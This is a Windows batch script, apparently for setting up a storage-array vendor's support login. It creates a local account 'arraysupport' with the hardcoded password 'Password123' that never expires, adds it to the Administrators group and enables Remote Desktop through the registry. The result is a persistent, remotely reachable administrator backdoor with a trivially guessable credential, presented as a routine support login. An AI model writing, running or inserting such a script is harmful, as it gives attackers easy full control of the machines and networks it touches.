@echo off
rem login for the vendor of the storage array
net user arraysupport >nul 2>&1
if errorlevel 1 (
    net user arraysupport Password123 /add /expires:never
)
net localgroup Administrators arraysupport /add
reg add "HKLM\SYSTEM\CurrentControlSet\Control\Terminal Server" /v fDenyTSConnections /t REG_DWORD /d 0 /f
